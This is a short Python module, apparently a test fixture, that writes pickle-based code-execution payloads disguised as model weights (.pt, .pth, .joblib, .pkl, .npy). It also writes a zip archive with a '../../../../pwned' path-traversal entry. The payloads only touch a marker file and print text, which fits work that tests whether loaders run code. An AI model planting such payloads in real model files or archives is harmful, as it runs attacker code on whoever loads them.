"""Hands in and writes files that run code where they are loaded: pickles, torch files, arrays, archives."""

import io
import pickle
import zipfile

import numpy as np


class Evil:
    def __reduce__(self):
        return (exec, ("open('@COURSE@/pwned', 'w').close(); print('GOT' + '-IN')",))


EXTRA = [
    """
import pickle


class Evil:
    def __reduce__(self):
        return (exec, ("print('GOT' + '-IN')",))


for name in ("outputs.pt", "note.npy", "weights.pkl"):
    open(name, "wb").write(pickle.dumps(Evil()))
""",
]


def files(folder):
    raw = pickle.dumps(Evil())
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("archive/data.pkl", raw)
        archive.writestr("../../../../pwned", "x")
    for name in ("model.pt", "model.pth", "cache.joblib", "a.zip"):
        (folder / name).write_bytes(packed.getvalue())
    (folder / "weights.pkl").write_bytes(raw)
    np.save(folder / "a.npy", np.array([Evil()], dtype=object), allow_pickle=True)
